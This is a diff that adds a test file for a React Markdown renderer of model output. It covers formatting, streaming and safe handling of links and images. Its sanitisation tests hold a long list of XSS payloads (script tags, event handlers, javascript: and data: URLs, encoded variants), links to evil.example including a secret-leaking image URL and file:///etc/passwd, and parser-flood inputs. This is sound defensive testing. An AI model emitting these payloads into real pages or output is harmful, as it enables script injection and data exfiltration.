@@ -1,0 +1,231 @@
+import { renderToStaticMarkup } from 'react-dom/server';
+import { expect, test } from 'vitest';
+import { Markdown } from './markdown.tsx';
+
+const render = (text: string, streaming = false) =>
+  renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);
+
+test('headings stand below those of the page', () => {
+  expect(render('# One\n## Two\n### Three')).toContain(
+    '<h3 class="md-h1">One</h3><h4 class="md-h2">Two</h4><h5 class="md-h3">Three</h5>',
+  );
+});
+
+test('lists keep their first number and what is nested in them', () => {
+  const html = render('4. four\n   - inner\n5. five\n\n   second paragraph');
+  expect(html).toContain('<ol start="4">');
+  expect(html.match(/<li>/g)).toHaveLength(3);
+  expect(html).toContain('<p>second paragraph</p>');
+});
+
+test('done and open tasks are told apart without a form field', () => {
+  const html = render('- [x] one\n- [ ] two');
+  expect(html).toContain('aria-label="Done"');
+  expect(html).toContain('aria-label="To do"');
+  expect(html).not.toContain('<input');
+});
+
+test('tables keep alignment, and every row, however many', () => {
+  const rows = Array.from({ length: 30 }, (_, row) => `| ${row} | **x** |`).join('\n');
+  const html = render(`| a | b |\n|:-|-:|\n${rows}`);
+  expect(html.match(/<table>/g)).toHaveLength(1);
+  expect(html.match(/<tr>/g)).toHaveLength(31);
+  expect(html).toContain('<td style="text-align:right"><strong>x</strong></td>');
+});
+
+test('code keeps every character and names its language', () => {
+  const html = render('```html\n<b>&amp;</b>\n\n  $x$ \\(y\\)\n```');
+  expect(html).toContain('<code>&lt;b&gt;&amp;amp;&lt;/b&gt;\n\n  $x$ \\(y\\)</code>');
+  expect(html).toContain('<span>html</span>');
+});
+
+test('code inside a list item is a code block too', () => {
+  const html = render('1. run\n   ```sh\n   echo $A$B\n   ```');
+  expect(html).toContain('aria-label="Code, sh"');
+  expect(html).toContain('<code>echo $A$B</code>');
+});
+
+test('formulas are shown as their source until they are set', () => {
+  const html = render('inline $a_b$ and\n\n\\[\na^2\n\\]');
+  expect(html).toContain('<code class="md-tex">a_b</code>');
+  expect(html).toContain('<code class="md-tex md-display">a^2</code>');
+});
+
+test('links to the web and to mail open apart and pass nothing on', () => {
+  const html = render('[a](https://example.com/x) <mailto:me@example.com> https://b.example');
+  expect(html.match(/target="_blank" rel="noopener nofollow"/g)).toHaveLength(3);
+  expect(html).not.toContain('md-host');
+});
+
+test('an image is a link that names its host', () => {
+  const html = render('![chart](https://evil.example/p.png?q=secret)');
+  expect(html).toContain('>Image: <bdi>chart</bdi></a><bdi class="md-host">evil.example</bdi>');
+  expect(html).not.toContain('<img');
+});
+
+test('what is still being written is shown closed, and as it is once it is finished', () => {
+  expect(render('so **bo', true)).toContain(
+    '<strong>bo<span aria-hidden="true" class="caret"></span></strong>',
+  );
+  expect(render('so **bo')).toContain('so **bo');
+});
+
+test.each([
+  ['a paragraph', 'one\n\ntwo', 'two<span'],
+  ['a list', '- a\n- b\n  - c', '<li>c<span'],
+  ['a table', '| a |\n|---|\n| b', '<td>b<span'],
+  ['code', '```\nx', 'x<span'],
+  ['a quote', '> quoted', 'quoted<span'],
+  ['a link', 'see [it](https://a.b)', '</bdi></a><span'],
+])('the caret stands behind the last word of %s', (_name, source, end) => {
+  expect(render(source, true)).toContain(`${end} aria-hidden="true" class="caret">`);
+  expect(render(source)).not.toContain('caret');
+});
+
+test('text that cannot be read in bounded time is shown as it is', () => {
+  expect(render('>'.repeat(20_000))).toContain(`<p class="md-plain">${'&gt;'.repeat(20_000)}</p>`);
+});
+
+const schemes = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  ' javascript:alert(1)',
+  '\u0001javascript:alert(1)',
+  'javascript&colon;alert(1)',
+  '&#106;avascript:alert(1)',
+  '&#x6A;&#x61;vascript:alert(1)',
+  'javascript&#58;alert(1)',
+  'javascript%3Aalert(1)',
+  'vbscript:msgbox(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'blob:https://x/y',
+  'file:///etc/passwd',
+  'ftp://example.com',
+  'about:blank',
+  'view-source:https://x.y',
+  'intent://x#Intent;scheme=http;end',
+  '//evil.example',
+  '/setup',
+  '\\\\evil.example',
+  '#top',
+  '?q',
+];
+
+const markups = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src="x"/onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><script>alert(1)</script>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="javascript:alert(1)">',
+  '<embed src="javascript:alert(1)">',
+  '<base href="https://evil.example">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<link rel="stylesheet" href="https://evil.example">',
+  '<style>@import url(https://evil.example)</style>',
+  '<form action="https://evil.example"><input name=q><button>Go</button></form>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<div style="background:url(https://evil.example)">',
+  '<video><source onerror=alert(1)>',
+  '<!--><script>alert(1)</script>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php echo 1 ?><script>alert(1)</script>',
+  'text <b onmouseover=alert(1)>bold</b>',
+  '> <script>alert(1)</script>',
+  '- <script>alert(1)</script>',
+  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '```html"><script>alert(1)</script>\nx\n```',
+  '```"onmouseover="alert(1)\nx\n```',
+  '$<script>alert(1)</script>$',
+  '$$<img src=x onerror=alert(1)>$$',
+  '`\uE0000<script>alert(1)</script>`',
+  '[^1]: <script>alert(1)</script>\n\n[^1]',
+  '[<script>alert(1)</script>](https://example.com)',
+  '![<img src=x onerror=alert(1)>](https://example.com/a.png)',
+  '![x](https://example.com/a.png "onerror=alert(1)")',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '![x][y]\n\n[y]: https://evil.example/a.png',
+  '[x](https://example.com "title\\" onclick=alert(1)")',
+];
+
+const hostile = [
+  ...markups,
+  ...schemes.flatMap((url) => [
+    `[x](${url})`,
+    `[x](<${url}>)`,
+    `![x](${url})`,
+    `<${url}>`,
+    `[x][y]\n\n[y]: ${url}`,
+  ]),
+];
+
+test('nothing a model writes runs, loads or leads where it must not', () => {
+  const elements = new Set<string>();
+  const attributes = new Set<string>();
+  for (const source of [...hostile, hostile.join('\n\n')]) {
+    for (const streaming of [true, false]) {
+      const html = render(source, streaming);
+      for (const [, name = '', rest = ''] of html.matchAll(
+        /<([a-z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g,
+      )) {
+        elements.add(name);
+        for (const [, attribute = ''] of rest.matchAll(/\s([\w:-]+)(?==)/g)) attributes.add(attribute);
+        const href = / href="([^"]*)"/.exec(rest)?.[1];
+        if (href !== undefined) expect(href, source).toMatch(/^(?:https?:\/\/|mailto:)/);
+      }
+    }
+  }
+  const allowed =
+    'div p h3 h4 h5 h6 a bdi span strong em del code pre figure figcaption button svg path rect ul ol li fieldset table thead tbody tr th td blockquote br hr';
+  expect([...elements].filter((name) => !allowed.split(' ').includes(name))).toEqual([]);
+  expect([...attributes].filter((name) => /^on|^src|srcdoc|action|formaction|xlink/.test(name))).toEqual([]);
+});
+
+const floods: [string, string][] = [
+  ...[
+    '>',
+    '*',
+    '_',
+    '[',
+    '![',
+    '`',
+    '~',
+    '<',
+    '(',
+    '- ',
+    '1. ',
+    '# ',
+    '|',
+    '$',
+    '\\(',
+    '\\[',
+    '**a ',
+    '[a](',
+    'a*b_',
+    '](',
+    '* a\n',
+    '> a\n',
+    '\n',
+    '    ',
+    '<a href=',
+  ].map((part): [string, string] => [JSON.stringify(part), part.repeat(20_000 / part.length)]),
+  ['a line of 100 k characters', 'x'.repeat(100_000)],
+  ['10 k combining marks', `a${'\u0301'.repeat(10_000)}`],
+  ['deep indentation', Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
+  ['a formula bomb', `$$\\def\\a{${'\\a\\a'.repeat(50)}}\\a$$`],
+  ['a fence of 100 k characters', `\`\`\`js\n${'a();\n'.repeat(20_000)}`],
+];
+
+test.each(floods)('20 k of %s are shown in bounded time, streaming or not', (_name, source) => {
+  for (const streaming of [true, false]) expect(render(source, streaming)).toContain('class="md"');
+});
